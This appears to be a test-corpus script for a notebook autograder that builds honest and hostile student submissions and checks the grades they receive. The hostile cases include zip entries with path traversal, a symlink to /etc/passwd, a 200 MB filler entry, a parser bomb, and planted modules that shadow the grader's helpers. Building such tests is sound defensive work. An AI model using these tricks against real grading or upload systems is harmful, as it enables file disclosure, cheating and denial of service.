        "no-cells", TILE, 0, b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}', hostile=True
    )
    yield HandedIn(
        "cells-of-wrong-types",
        TILE,
        0,
        b'{"cells": [1, null, {"cell_type": "code", "source": 5, "metadata": 7}]}',
        hostile=True,
    )
    yield HandedIn("a-list", TILE, 0, b"[[[]]]", hostile=True)
    yield HandedIn("cut-off", TILE, 0, tile(_TRIED_FIRST)[:3000], hostile=True)
    yield HandedIn("empty", TILE, 0, b"", hostile=True)
    yield HandedIn("no-text", TILE, 0, bytes(range(256)) * 100, hostile=True)
    parens = "x = " + "(" * 50_000 + ")" * 50_000
    yield HandedIn("parser-bomb", TILE, 0, tile(parens + "\n" + _TORCH), hostile=True)
    surrogate = written(solved(TILE)).replace(b"def my_softmax", b"# \\udcff\\ud800\\ndef my_softmax")
    yield HandedIn("lone-surrogates", TILE, 4, surrogate, hostile=True)


def _in_files():
    def link(path):
        os.symlink(path.parents[2] / "full-02" / TILE / f"{TILE}.ipynb", path)

    def folder_link(path):
        path.parent.rmdir()
        os.symlink(path.parents[2] / "full-02" / TILE, path.parent)

    def fifo(path):
        os.mkfifo(path)

    def folder(path):
        path.mkdir()

    def own_helpers(path):
        own = path.parent / "helpers"
        own.mkdir(exist_ok=True)
        (own / "__init__.py").write_text("raise SystemExit")
        (own / "check.py").write_text("single_tile = lambda fn: 4")
        (path.parent / "sitecustomize.py").write_text("raise SystemExit")
        (path.parent / "torch.py").write_text("raise SystemExit")

    yield HandedIn("link-to-another-s-file", TILE, 0, None, True, link)
    yield HandedIn("link-to-another-s-folder", TILE, 0, None, True, folder_link)
    yield HandedIn("a-pipe", TILE, 0, None, True, fifo)
    yield HandedIn("a-folder", TILE, 0, None, True, folder)
    yield HandedIn("own-helpers-folder", TILE, 0, tile(_TORCH), True, own_helpers)


NEVER_GRADED = {"link-to-another-s-folder"}
"""What is no submission at all: passed over with a sentence."""


def corpus():
    """All of them."""
    return [*honest(), *hostile()]


def hostile_zip(path):
    """A zip as an LMS exports it, with tricks in it, and three honest notebooks under the names that systems give."""
    right = written(solved(TILE))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"adalovelace_12345_67890_{TILE}.ipynb", right)
        archive.writestr(f"Grace Hopper_4711_assignsubmission_file_/{TILE}.ipynb", right)
        archive.writestr(f"alan/{TILE}.ipynb", right)
        archive.writestr(f"../../escaped/{TILE}.ipynb", right)
        archive.writestr(f"/etc/absolute/{TILE}.ipynb", right)
        archive.writestr(f"eve/{TILE}/../../../up/{TILE}.ipynb", right)
        linked = zipfile.ZipInfo(f"mallory/{TILE}.ipynb")
        linked.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(linked, "/etc/passwd")
        archive.writestr(f"trent/{TILE}.ipynb", b"\0" * (200 << 20))
        archive.writestr("nobody.ipynb", right)
        archive.writestr(f"..{TILE}.ipynb", right)
        archive.writestr("alan/helpers/__init__.py", "raise SystemExit")


def mistakes():
    """One notebook for every known mistake, and for every right answer that is written differently, of corpus.py."""
    from corpus import RIGHT, WRONG
    from exercises import SOLUTIONS
    from helpers import check

    for variants, right in ((WRONG, False), (RIGHT, True)):
        for exercise, faults in variants.items():
            lesson, solution = solution_of(exercise)
            for number, variant in enumerate(faults.values()):
                text = _varied(lesson, solution, variant)
                points, named = SOLUTIONS[exercise].points, variant.named
                borrowed = (
                    "helpers.kernels",
                    "kernels.",
                    "helpers.lies",
                    "lies.",
                    "helpers.choosing.rules",
                    "recorded.",
                )
                if any(name in f"{variant.code} {variant.replaced}" for name in borrowed):
                    points, named = 0, ""  # the course's own code deserves nothing, and is not there to be called
                elif exercise in ("my_pick", "benchmark"):  # better than the textbook's, or most lies out: half
                    points = check.report_on(exercise, SOLUTIONS[exercise].variant(variant)).points
                elif not right:
                    points = points / 2 if variant.named in ("over_budget", "another_exercise") else 0
                yield HandedIn(
                    f"{exercise}-{'right' if right else 'wrong'}-{number:02}", lesson, points, text, named=named
                )


def solution_of(exercise):
    """The lesson of an exercise, and the mark of the cell to fill in."""
    for lesson in FULL:
        waiting = ""
        for cell in notebook(lesson)["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("solution"):
                waiting = mark(cell)
            if f"check.{exercise}(" in "".join(cell["source"]) and mark(cell):
                return lesson, waiting
    raise LookupError(exercise)


def _varied(lesson, solution, variant):
    """The lesson with one exercise answered as corpus.py has it, and the others left as they are."""
    book = solved(lesson, solution)
    pairs = list(zip(variant.replaced[::2], variant.replaced[1::2], strict=True))
    at = next(index for index, cell in enumerate(book["cells"]) if mark(cell) == solution)
    for cell in book["cells"][: at + 1]:
        text = "".join(cell["source"])
        for old, new in pairs:
            if cell["cell_type"] == "code":
                text = text.replace(old, new)
        cell["source"] = text
    if variant.code:
        book["cells"].insert(at + 1, code(variant.code))
    return written(book)


def main():
    """Grades the corpus in one run, beside an honest class, and prints what each got; 1 where that is not deserved."""
    import argparse
    import tempfile
    import time

    from helpers.instructor.collect import course
    from helpers.instructor.grade import everyone
    from helpers.instructor.report import gradebook

    parser = argparse.ArgumentParser(description=main.__doc__)
    parser.add_argument("--mistakes", action="store_true", help="and every variant of tests/proofs/corpus.py")
    parser.add_argument("--only", nargs="+", default=[], help="names")
    parser.add_argument("--every", type=int, default=1, help="grade every nth")
    parser.add_argument("--shift", type=int, default=0, help="which of them")
    # Some of the hostile ones only sleep until their time is over.
    parser.add_argument(
        "--jobs", type=int, default=2 * os.cpu_count(), help="notebooks side by side; default: %(default)s"
    )
    parser.add_argument("--gpu", action="store_true", help="also time right kernels on this GPU")
    options = parser.parse_args()
    handed_in = [*corpus(), *(mistakes() if options.mistakes else ())]
    handed_in = [one for one in handed_in if not options.only or one.name in options.only]
    handed_in = handed_in[options.shift % options.every :: options.every]
    with tempfile.TemporaryDirectory() as folder:
        directory = Path(folder)
        course.make_course(directory, sorted((ROOT / "solutions").glob("*.ipynb")))
        for one in handed_in:
            one.put(directory)
        began = time.monotonic()
        run = everyone.grade(directory, jobs=options.jobs, gpu=options.gpu)
        seconds = time.monotonic() - began
        results = {(result.student, result.lesson): result for result in run.results}
        undeserved = lost = misnamed = 0
        for one in handed_in:
            result = results.get((one.name, one.lesson))
            got = result.points if result else 0.0
            undeserved += max(0.0, got - one.points)
            lost += max(0.0, one.points - got)
            kind = "hostile" if one.hostile else "honest"
            took = result.data["seconds"] if result else 0.0
            exercises = result.data["exercises"] if result else []
            said = next((e["findings"][-1][2] for e in exercises if e["findings"] and not e["passed"]), "")
            names = [e["diagnosis"]["id"] for e in exercises if e["diagnosis"]]
            wrong_name = bool(one.named) and one.points == 0 and got == 0 and one.named not in names
            misnamed += wrong_name
            flag = "" if got == one.points else "  <<<"
            flag += f"  named {names} not {one.named!r}" if wrong_name else ""
            for speed in [e["speed"] for e in exercises if e["speed"] is not None]:
                said += f" [{speed:.2f} of a copy]" if isinstance(speed, float) else f" [{speed}]"
            print(f"{one.name:36} {kind:8} {one.points:4g} {got:4g} {took:6.1f} s  {said[:90]}{flag}")
        with_notes = sum(bool(e["note"]) for result in run.results for e in result.data["exercises"])
        print(
            f"{len(handed_in)} handed in, {run.graded} graded in {seconds:.0f} s with {options.jobs} jobs, sandbox: {run.sandbox}"
        )
        print(
            f"undeserved points: {undeserved:g}; deserved points lost: {lost:g}; mistakes named otherwise: {misnamed}"
        )
        print(f"exercises with a note for the instructor: {with_notes}; not graded: {len(run.not_graded)}")
        print("entered again, the gradebook changes in", gradebook.enter(directory, run.results)[0], "places")
        for line in [*run.passed_over, *run.not_graded]:
            print(line)
    return int(bool(undeserved or lost or misnamed))


if __name__ == "__main__":
    sys.exit(main())
